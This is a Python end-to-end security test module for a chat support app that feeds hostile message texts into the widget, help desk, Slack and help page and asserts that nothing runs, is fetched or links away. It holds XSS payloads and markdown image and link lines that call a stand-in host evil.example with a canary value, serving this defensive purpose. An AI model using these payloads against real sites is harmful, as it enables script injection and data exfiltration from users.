"""Hostile texts, and how to tell that one of them got through."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from app.adapters.store import Store
from app.events import CitedSource, MessageDone, ShownMessage, as_json
from app.ids import new_id
from app.main import utc_now
from app.models.conversation import Message, Role
from app.models.event import NewEvent
from app.models.record import Record
from tests.e2e.surfaces.pages import Watched
from tests.e2e.surfaces.stage import Stage, aside

GIVEN = Path(__file__).parents[4] / "shared" / "data" / "security" / "hostile_dev.jsonl"
KINDS = (
    "xss_output",
    "xss_markdown",
    "exfiltration",
    "data_exfiltration",
    "smuggle_spoof",
    "obfuscation",
    "delimiter_injection",
)
OWN = (
    "<script>window.ran=1</script>",
    "<img src=x onerror='window.ran=1'>",
    "<svg onload='window.ran=1'></svg>",
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    "<details open ontoggle='window.ran=1'>x</details>",
    "[click](javascript:window.ran=1)",
    "![pixel](https://evil.example/p.png?d=CANARY)",
    "<img src='https://evil.example/i.png'>",
    "[Read the guide](https://evil.example/guide?d=CANARY)",
    "Go to https://evil.example/plain?d=CANARY now",
    "<https://evil.example/auto>",
    "[x]: https://evil.example/ref\n\n[x] and ![y][x]",
    "<style>@import url(https://evil.example/s.css)</style>",
    "<link rel=prefetch href=https://evil.example/l>",
    "**<u onmouseover=window.ran=1>x</u>** `<b>`",
    "<!channel> <@U0LEAD> <https://evil.example/s|our help page>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
)
FORBIDDEN = "script, iframe, object, embed, style, link, meta, form, details:not(.plan), u, base"
"""What no text may become; where the page has some of its own they stand outside of the messages."""
DESK = ".log .message, .suggested, .case dd, .case blockquote, nav li, #case-title, .context"
SHOWN = {"widget": ".log", "desk": DESK, "slack": "#messages, #replies", "help": "main"}

READ = """([place, forbidden]) => {
  const root = document.querySelector('stepfour-chat')?.shadowRoot ?? document;
  const parts = [...root.querySelectorAll(place)];
  const all = (selector) => parts.flatMap((part) => [...part.querySelectorAll(selector)]);
  const paints = new Promise((done) => requestAnimationFrame(() => setTimeout(done, 150)));
  return paints.then(() => ({
    ran: window.ran ?? null,
    forbidden: all(forbidden).map((one) => one.outerHTML.slice(0, 200)),
    images: all('img').map((one) => one.src),
    links: all('a[href]').map((one) => one.href),
    handlers: all('*').filter((one) => [...one.attributes].some((a) => /^on/.test(a.name))).length,
    parts: parts.length,
    title: document.title,
  }));
}"""


def given() -> list[str]:
    """Those of others, where they are at hand."""
    rows = [json.loads(line) for line in GIVEN.read_text(encoding="utf-8").splitlines()]
    return [row["text"] for row in rows if row["kind"] in KINDS and row["label"] == "malicious"]


def assert_harmless(
    page: Watched, at: Stage, place: str, *, links: Sequence[str] = (), others: Sequence[str] = ()
) -> None:
    """Nothing ran, nothing was fetched from others, nothing asks, and links lead to us.

    `links`: what other ones may be there; `others`: origins that the test itself brought in.
    """
    own = (at.site.url, at.host.url, at.slack.base_url)
    found: dict[str, Any] = page.page.evaluate(READ, [SHOWN[place], FORBIDDEN])
    assert found["parts"] > 0, "the page shows it"
    assert found["ran"] is None, "a script ran"
    assert not found["forbidden"], found["forbidden"]
    assert found["handlers"] == 0, "an attribute would run a script"
    fetched = page.foreign(*own, *others)
    fetched += [src for src in found["images"] if not src.startswith((*own, "blob:"))]
    assert not fetched, fetched
    assert not page.dialogs, page.dialogs
    assert not page.complaints, page.complaints
    mine = ("blob:", f"{at.site.url}/help/", f"{at.site.url}/assist", f"{at.site.url}/v1/agent/", *links)
    away = [link for link in found["links"] if not link.startswith(mine)]
    assert not away, away


def say(at: Stage, conversation: str, role: Role, texts: Sequence[str]) -> None:
    """As if they had been recorded by us: words, the name of an agent, and every field of a source."""

    async def write() -> None:
        store = await Store.open(at.site.settings.data_dir, utc_now)
        try:
            for text in texts:
                await store.record(_record(conversation, role, text))
        finally:
            await store.close()

    aside(lambda: asyncio.run(write()))


def _record(conversation: str, role: Role, text: str) -> Record:
    now = datetime.now(UTC)
    message = Message(id=new_id("m"), conversation=conversation, role=role, text=text, at=now)
    sources = tuple(
        CitedSource(
            n=n,
            title=text[:60],
            path=text[:60],
            anchor=text[:30],
            url=url,
            quote=text,
            updated_at=now,
            lang="en",
        )
        for n, url in enumerate(("javascript:window.ran=1", "data:text/html,<script>1</script>", None), 1)
    )
    shown = ShownMessage(
        id=message.id,
        role=role,
        name=text[:60] if role == "agent" else None,
        text=f"{text} [1]",
        at=now,
        citations=sources if role == "bot" else (),
    )
    done: NewEvent = ("message.done", as_json(MessageDone(message=shown)))
    return Record(conversation=conversation, replies=(message,), events=(done,))
